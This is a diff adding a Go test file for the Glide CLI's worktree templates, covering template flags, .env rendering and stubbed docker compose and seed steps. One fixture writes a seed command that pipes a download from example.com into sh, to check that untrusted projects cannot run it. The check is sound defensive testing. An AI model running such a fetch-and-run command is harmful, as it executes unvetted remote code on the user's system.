@@ -0,0 +1,158 @@
+package cli
+
+import (
+	"errors"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/glide-cli/glide/v3/internal/config"
+	glideContext "github.com/glide-cli/glide/v3/internal/context"
+	glideErrors "github.com/glide-cli/glide/v3/pkg/errors"
+	"github.com/spf13/cobra"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+// stubWorktreeSteps records the template's commands instead of running them,
+// failing the one whose arguments contain fail
+func stubWorktreeSteps(t *testing.T, fail string, err error) *[]string {
+	t.Helper()
+	var steps []string
+	original := runWorktreeStep
+	runWorktreeStep = func(dir string, env []string, name string, args ...string) error {
+		step := name + " " + strings.Join(args, " ")
+		steps = append(steps, step)
+		if fail != "" && strings.Contains(step, fail) {
+			return err
+		}
+		return nil
+	}
+	t.Cleanup(func() { runWorktreeStep = original })
+	return &steps
+}
+
+func testTemplateCommand(t *testing.T) (*WorktreeCommand, *cobra.Command) {
+	t.Helper()
+	t.Chdir(t.TempDir())
+	cfg := &config.Config{WorktreeTemplates: map[string]config.WorktreeTemplate{
+		"hotfix":  {Description: "Branch from production", From: "production"},
+		"feature": {Services: []string{"php", "mysql"}},
+	}}
+	c := &WorktreeCommand{ctx: &glideContext.ProjectContext{ProjectRoot: t.TempDir()}, cfg: cfg}
+	cmd := &cobra.Command{Use: "worktree"}
+	c.addTemplateFlag(cmd)
+	return c, cmd
+}
+
+func TestWorktreeCommand_TemplateFlag(t *testing.T) {
+	c, cmd := testTemplateCommand(t)
+
+	template, err := c.templateFlag(cmd)
+	require.NoError(t, err)
+	assert.Nil(t, template, "no template without --template")
+
+	require.NoError(t, cmd.Flags().Set("template", "hotfix"))
+	template, err = c.templateFlag(cmd)
+	require.NoError(t, err)
+	assert.Equal(t, "production", template.From)
+
+	require.NoError(t, cmd.Flags().Set("template", "missing"))
+	_, err = c.templateFlag(cmd)
+	require.Error(t, err)
+	assert.True(t, glideErrors.Is(err, glideErrors.TypeInvalid))
+	var glideErr *glideErrors.GlideError
+	require.True(t, errors.As(err, &glideErr))
+	assert.Contains(t, glideErr.Suggestions, "Available templates: feature, hotfix")
+}
+
+func TestWorktreeCommand_TemplateFlag_UntrustedProject(t *testing.T) {
+	c, cmd := testTemplateCommand(t)
+	dir, _ := os.Getwd()
+	require.NoError(t, os.WriteFile(filepath.Join(dir, ".glide.yml"), []byte(`worktree_templates:
+  seeded:
+    seed: ["curl https://example.com/x | sh"]
+  plain:
+    from: main
+`), 0644))
+	stubTrust(t, false, false)
+
+	require.NoError(t, cmd.Flags().Set("template", "seeded"))
+	_, err := c.templateFlag(cmd)
+	assert.True(t, glideErrors.Is(err, glideErrors.TypePermission), "got %v", err)
+
+	require.NoError(t, cmd.Flags().Set("template", "plain"))
+	template, err := c.templateFlag(cmd)
+	require.NoError(t, err, "templates running nothing need no trust")
+	assert.Equal(t, "main", template.From)
+
+	require.NoError(t, cmd.Flags().Set("template", "feature"))
+	_, err = c.templateFlag(cmd)
+	require.NoError(t, err, "the global config's templates are the user's own")
+}
+
+func TestRenderEnvTemplate(t *testing.T) {
+	data := "APP_URL=https://{{worktree}}.test\nBRANCH={{branch}}\nDB_NAME=app_{{worktree}}\n"
+	assert.Equal(t,
+		"APP_URL=https://feature-login.test\nBRANCH=feature/login\nDB_NAME=app_feature-login\n",
+		renderEnvTemplate(data, "feature/login", "feature-login"))
+}
+
+func TestWorktreeCommand_WriteEnvTemplate(t *testing.T) {
+	c, _ := testTemplateCommand(t)
+	vcs := filepath.Join(c.ctx.ProjectRoot, "vcs")
+	worktree := filepath.Join(c.ctx.ProjectRoot, "worktrees", "feature-login")
+	require.NoError(t, os.MkdirAll(vcs, 0755))
+	require.NoError(t, os.MkdirAll(worktree, 0755))
+	require.NoError(t, os.WriteFile(filepath.Join(vcs, ".env.worktree"), []byte("DB={{worktree}}\n"), 0644))
+
+	require.NoError(t, c.writeEnvTemplate(vcs, worktree, ".env.worktree", "feature/login"))
+	data, err := os.ReadFile(filepath.Join(worktree, ".env"))
+	require.NoError(t, err)
+	assert.Equal(t, "DB=feature-login\n", string(data))
+
+	err = c.writeEnvTemplate(vcs, worktree, ".env.missing", "feature/login")
+	assert.True(t, glideErrors.Is(err, glideErrors.TypeFileNotFound))
+}
+
+func TestWorktreeCommand_ApplyTemplate(t *testing.T) {
+	c, _ := testTemplateCommand(t)
+	worktree := filepath.Join(c.ctx.ProjectRoot, "worktrees", "feature-login")
+	template := &config.WorktreeTemplate{
+		Services: []string{"php", "mysql"},
+		Seed:     []string{"glide artisan migrate --seed", "npm ci"},
+	}
+
+	steps := stubWorktreeSteps(t, "", nil)
+	require.NoError(t, c.applyTemplate(worktree, template))
+	assert.Equal(t, []string{
+		"docker compose up --detach php mysql",
+		"sh -c glide artisan migrate --seed",
+		"sh -c npm ci",
+	}, *steps)
+
+	steps = stubWorktreeSteps(t, "", nil)
+	require.NoError(t, c.applyTemplate(worktree, &config.WorktreeTemplate{}))
+	assert.Empty(t, *steps, "templates without services or seeds run nothing")
+}
+
+func TestWorktreeCommand_ApplyTemplate_SeedFails(t *testing.T) {
+	c, _ := testTemplateCommand(t)
+	worktree := filepath.Join(c.ctx.ProjectRoot, "worktrees", "feature-login")
+	template := &config.WorktreeTemplate{Seed: []string{"exit 3", "npm ci"}}
+
+	steps := stubWorktreeSteps(t, "exit 3", exec.Command("sh", "-c", "exit 3").Run())
+	err := c.applyTemplate(worktree, template)
+	require.Error(t, err)
+	assert.True(t, glideErrors.Is(err, glideErrors.TypeCommand))
+	var glideErr *glideErrors.GlideError
+	require.True(t, errors.As(err, &glideErr))
+	assert.Equal(t, 3, glideErr.Code)
+	assert.Equal(t, []string{"sh -c exit 3"}, *steps, "later seeds are not run")
+
+	stubWorktreeSteps(t, "compose", errors.New("exit status 1"))
+	err = c.applyTemplate(worktree, &config.WorktreeTemplate{Services: []string{"php"}})
+	assert.True(t, glideErrors.Is(err, glideErrors.TypeDocker))
+}